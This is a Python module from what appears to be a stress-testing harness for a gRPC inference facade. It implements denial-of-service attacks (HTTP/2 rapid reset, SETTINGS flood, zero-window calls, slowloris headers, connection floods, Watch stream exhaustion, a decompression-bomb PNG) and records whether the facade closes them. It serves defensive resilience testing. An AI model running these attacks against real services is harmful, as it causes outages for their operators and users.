"""Attacks on admission and on the connection: many calls that hold a place, and HTTP/2 that no gRPC client sends.

Each runs from connections of its own while the watch's probe calls from another. Calls made with raw HTTP/2
(h2raw.py) are not decoded: the facade ending such a stream counts as ENDED and closing its connection as CLOSED,
each at the moment it happened.
"""

from __future__ import annotations

import io
import selectors
import socket
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace

import grpc
import numpy as np
from grpc_health.v1 import health_pb2
from grpc_reflection.v1alpha import reflection_pb2
from PIL import Image

from bench.attacks import catalog
from bench.attacks.calls import ATTACKER, BESIDE, FACADE, Call, Calls, Held, channel, one
from bench.attacks.catalog import HELD_TIMEOUT_S, Attack, Context, Outcome, holding, until
from bench.attacks.h2raw import INITIAL_WINDOW_SIZE, SETTINGS, RawConnection, frame, read_many
from bench.attacks.payloads import MODEL, PREDICT, valid_predict
from tritonnx.client.proto import inference_pb2

HEALTH = "/grpc.health.v1.Health/"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
CLASSIFY = "/inference.InferenceService/Classify"
WATCH_HELD_S = 5.0  # held Watch streams are cancelled by the attacker after this
CLOSE_WAIT_S = 15.0  # the longest wait for the facade to close a raw connection
OTHER_ADDRESS = "127.0.0.2"  # an attacker's address apart from the probe's (127.0.0.1): loopback is all of 127/8


def _address(ctx: Context) -> tuple[str, int]:
    host, _, port = ctx.target.grpc_url.rpartition(":")
    return host, int(port)


def _raw(ctx: Context, settings: dict[int, int] | None = None, read: bool = True) -> RawConnection:
    return RawConnection(*_address(ctx), settings, read=read)


def _ended(raw: RawConnection, started: float) -> list[Call]:
    """Each stream of `raw`: ended by the facade (ENDED), its connection closed (CLOSED) or left by the attacker."""
    calls = []
    for stream, opened in raw.opened.items():
        if stream in raw.ended:
            calls.append(Call("ENDED", raw.ended[stream] - opened))
        elif raw.closed_at:
            calls.append(Call("CLOSED", raw.closed_at - opened))
        else:
            calls.append(Call("CANCELLED", time.monotonic() - started, ATTACKER))
    return calls


def many_silent_connections(seconds: float):
    """Sizes' connections, each opening one Predict and sending no body; closed by the attacker after `seconds`."""

    def run(ctx: Context) -> Outcome:
        started, metadata, count = time.monotonic(), ctx.target.metadata, ctx.sizes.silent_connections
        with ThreadPoolExecutor(8) as pool:
            raws = list(pool.map(lambda _: _raw(ctx, read=False), range(count)))
        for raw in raws:
            raw.send(raw.headers(PREDICT, metadata=metadata))
        read_many(raws, seconds)
        held = [call for raw in raws for call in _ended(raw, started)]
        for raw in raws:
            raw.close()
        return Outcome(count, 0, held=held, notes=[f"{sum(c.code == 'ENDED' for c in held)} ended by the facade"])

    return run


def one_address_connections(seconds: float):
    """Sizes' connections from another loopback address, silent after HTTP/2's preface, read for `seconds`.

    Then a priority-1 Predict on a new connection from the probe's address.
    """

    def run(ctx: Context) -> Outcome:
        started, count, (host, port) = time.monotonic(), ctx.sizes.address_connections, _address(ctx)
        with ThreadPoolExecutor(8) as pool:
            raws = list(pool.map(lambda _: RawConnection(host, port, read=False, source=OTHER_ADDRESS), range(count)))
        read_many(raws, seconds)
        newcomer = _priority_predict(ctx)
        closed = [Call("CLOSED", raw.closed_at - started) for raw in raws if raw.closed_at]
        for raw in raws:
            raw.close()
        notes = [
            f"{len(closed):,} of the address's {count:,} connections closed by the facade",
            f"then a Predict at priority 1 on a new connection: {newcomer.code} in {newcomer.seconds * 1000:,.0f} ms",
        ]
        return Outcome(count, 0, [newcomer], closed, notes)

    return run


def few_connections_many_calls(connections: int, calls: int):
    """`calls` header-only Predicts on each of `connections` channels, then a priority-1 Predict of another."""

    def run(ctx: Context) -> Outcome:
        chans = [channel(ctx.target.grpc_url) for _ in range(connections)]
        try:
            held = [Held(chan, calls, HELD_TIMEOUT_S, ctx.target.metadata) for chan in chans]
            until(lambda: holding(ctx.target) + sum(h.done() for h in held) >= min(connections * calls, 128), 10)
            high = _priority_predict(ctx)
            if ctx.quick:
                for h in held:
                    h.cancel()
            ended = [call for h in held for call in h.wait()]
        finally:
            for chan in chans:
                chan.close()
        note = f"a Predict at priority 1 sent while they were held: {high.code} in {high.seconds * 1000:,.0f} ms"
        return Outcome(connections * calls, 0, [high], ended, [note])

    return run


def _priority_predict(ctx: Context) -> Call:
    """A legitimate caller's priority-1 Predict on a connection of its own."""
    with channel(ctx.target.grpc_url) as chan:
        return replace(one(chan, valid_predict(priority=1), 30, ctx.target.metadata), caller=BESIDE)


def watch_streams(count: int):
    """`count` health Watch streams on one connection; those the facade holds are cancelled after WATCH_HELD_S."""

    def run(ctx: Context) -> Outcome:
        request = health_pb2.HealthCheckRequest(service="").SerializeToString()
        with channel(ctx.target.grpc_url) as chan:
            method = chan.unary_stream(HEALTH + "Watch", request_serializer=None, response_deserializer=None)
            calls = Calls(WATCH_HELD_S + 30)
            for _ in range(count):
                calls.add(lambda: method(request, timeout=calls.timeout, metadata=ctx.target.metadata))
            until(lambda: calls.done() >= count or ctx.guard.is_set(), WATCH_HELD_S)
            refused = calls.done()
            calls.cancel()
            ended = calls.wait()
        answered = [c for c in ended if c.ended_by == FACADE]
        held = [c for c in ended if c.ended_by != FACADE]
        return Outcome(count, len(request), answered, held, [f"{refused} refused, {len(held)} held until cancelled"])

    return run


def zero_window_checks(count: int):
    """`count` health Checks on a connection whose flow-control window is 0: no answer can be sent."""

    def run(ctx: Context) -> Outcome:
        started = time.monotonic()
        raw = _raw(ctx, {INITIAL_WINDOW_SIZE: 0})
        request = health_pb2.HealthCheckRequest(service="").SerializeToString()
        for _ in range(count):
            raw.call(HEALTH + "Check", request, ctx.target.metadata)
        raw.closed.wait(CLOSE_WAIT_S)
        held = _ended(raw, started)
        raw.close()
        closed = f"closed after {raw.closed_at - started:.2f} s" if raw.closed_at else "not closed"
        return Outcome(count, len(request), held=held, notes=[f"the connection was {closed}"])

    return run


def rapid_reset(rounds: int):
    """`rounds` connections in turn, each opening and resetting up to Sizes' streams as fast as it can."""

    def run(ctx: Context) -> Outcome:
        calls, notes, streams = [], [], ctx.sizes.reset_streams
        for _ in range(rounds):
            raw = _raw(ctx)
            started = time.monotonic()
            sent = raw.reset_calls(PREDICT, streams, ctx.target.metadata)
            raw.closed.wait(CLOSE_WAIT_S)
            closed = raw.closed_at - started if raw.closed_at else None
            calls.append(
                Call("CLOSED", closed) if closed is not None else Call("NOT_CLOSED", time.monotonic() - started)
            )
            notes.append(f"{sent:,} streams sent, " + (f"closed after {closed:.2f} s" if closed else "not closed"))
            raw.close()
        return Outcome(streams * rounds, 0, calls, notes=notes)

    return run


def settings_flood():
    """SETTINGS frames as fast as one connection sends them, for Sizes' seconds."""

    def run(ctx: Context) -> Outcome:
        raw, seconds = _raw(ctx), ctx.sizes.flood_seconds
        flood, sent = frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00\x64") * 1000, 0
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not ctx.guard.is_set() and raw.send(flood):
            sent += 1000
        closed = "closed" if raw.closed_at else "kept open"
        raw.close()
        ended = (
            Call("CLOSED", raw.closed_at - deadline + seconds)
            if raw.closed_at
            else Call("CANCELLED", seconds, ATTACKER)
        )
        notes = [f"{sent:,} SETTINGS frames; the connection was {closed} (GOAWAY {raw.goaway})"]
        return Outcome(sent, 6, held=[ended], notes=notes)

    return run


def reflection_flood(count: int):
    """`count` reflection requests on one stream, the answers read."""

    def run(ctx: Context) -> Outcome:
        request = reflection_pb2.ServerReflectionRequest(list_services="").SerializeToString()
        started = time.monotonic()
        with channel(ctx.target.grpc_url) as chan:
            method = chan.stream_stream(REFLECTION, request_serializer=None, response_deserializer=None)
            answers = 0
            try:
                for _ in method(iter([request] * count), timeout=60, metadata=ctx.target.metadata):
                    answers += 1
                code = "OK"
            except grpc.RpcError as error:
                code = error.code().name
        return Outcome(count, len(request), [Call(code, time.monotonic() - started)], notes=[f"{answers:,} answered"])

    return run


def slow_headers():
    """Sizes' connections to the HTTP port (/metrics, /health), each sending a GET's header lines, one a second.

    The headers never end: each connection counts as CLOSED when the facade closes it (within CLOSE_WAIT_S), else
    NOT_CLOSED.
    """

    def run(ctx: Context) -> Outcome:
        host, _, port = ctx.target.http_url.removeprefix("http://").rpartition(":")
        started, count = time.monotonic(), ctx.sizes.slow_connections
        selector, closed = selectors.DefaultSelector(), dict[socket.socket, float]()
        sockets = [socket.create_connection((host, int(port)), timeout=5) for _ in range(count)]
        for sock in sockets:
            sock.setblocking(False)
            sock.send(b"GET /metrics HTTP/1.1\r\nHost: facade\r\n")
            selector.register(sock, selectors.EVENT_READ, sock)
        next_line = started + 1.0
        while len(closed) < count and time.monotonic() < started + CLOSE_WAIT_S and not ctx.guard.is_set():
            for key, _ in selector.select(timeout=max(0.0, next_line - time.monotonic())):
                sock = key.data
                try:
                    ended = not sock.recv(65536)
                except BlockingIOError:
                    continue
                except OSError:
                    ended = True
                if ended:
                    closed[sock] = time.monotonic() - started
                    selector.unregister(sock)
            if time.monotonic() >= next_line:
                next_line += 1.0
                for sock in sockets:
                    if sock not in closed:
                        try:
                            sock.send(b"X-Slow: 1\r\n")
                        except OSError:
                            closed[sock] = time.monotonic() - started
                            selector.unregister(sock)
        held = [
            Call("CLOSED", closed[sock]) if sock in closed else Call("NOT_CLOSED", time.monotonic() - started)
            for sock in sockets
        ]
        selector.close()
        for sock in sockets:
            sock.close()
        latest = max(closed.values(), default=0.0)
        return Outcome(
            count, 0, held=held, notes=[f"{len(closed):,} closed by the facade, the last after {latest:.1f} s"]
        )

    return run


def decompression_bomb_png(side: int) -> bytes:
    """A PNG of side x side pixels of one colour: ~100 KB that decodes to side^2 x 3 bytes."""
    buffer = io.BytesIO()
    Image.fromarray(np.full((side, side, 3), 90, np.uint8)).save(buffer, "PNG", optimize=True)
    return buffer.getvalue()


def classify_bombs(count: int, at_once: int, side: int):
    def run(ctx: Context) -> Outcome:
        body = inference_pb2.ClassifyRequest(image=decompression_bomb_png(side), model_name=MODEL).SerializeToString()
        ended: list[Call] = []
        with channel(ctx.target.grpc_url) as chan:
            method = chan.unary_unary(CLASSIFY, request_serializer=None, response_deserializer=None)
            for _ in range(0, count, at_once):
                calls = Calls(60)
                for _ in range(at_once):
                    calls.add(lambda: method.future(body, timeout=60, metadata=ctx.target.metadata))
                ended += calls.wait()
        return Outcome(count, len(body), ended)

    return run


def attacks() -> list[Attack]:
    """The admission and connection attacks (issue table order), each run against the facade the campaign targets."""
    return [
        Attack(
            "few_connections", "3 connections x 50 Predicts sending headers only", few_connections_many_calls(3, 50)
        ),
        Attack(
            "many_connections",
            "1,000 connections (250 quick) x 1 Predict sending headers only",
            many_silent_connections(5),
        ),
        Attack(
            "one_address",
            "1,100 connections (300 quick) from one address, silent after the preface",
            one_address_connections(3),
        ),
        Attack("watch_streams", "500 grpc.health.v1 Watch streams on one connection", watch_streams(500)),
        Attack(
            "zero_window",
            "500 health Checks on a connection whose window is 0 (answers never read)",
            zero_window_checks(500),
        ),
        Attack(
            "rapid_reset",
            "20,000 Predict streams (5,000 quick) opened and reset, on two connections in turn",
            rapid_reset(2),
        ),
        Attack(
            "slow_headers",
            "500 connections (100 quick) to /metrics sending a header line a second, never the end",
            slow_headers(),
        ),
        Attack("settings_flood", "SETTINGS frames for 3 s (1 s quick) on one connection", settings_flood()),
        Attack("reflection_flood", "30,001 reflection requests on one stream", reflection_flood(30_001)),
        Attack("classify_bombs", "16 Classify calls of a 6000 x 6000 PNG, 8 at once", classify_bombs(16, 8, 6000)),
    ]


def every_attack() -> list[Attack]:
    """The crafted requests of catalog.py, then these."""
    return catalog.attacks() + attacks()


NAMES = [attack.name for attack in every_attack()]
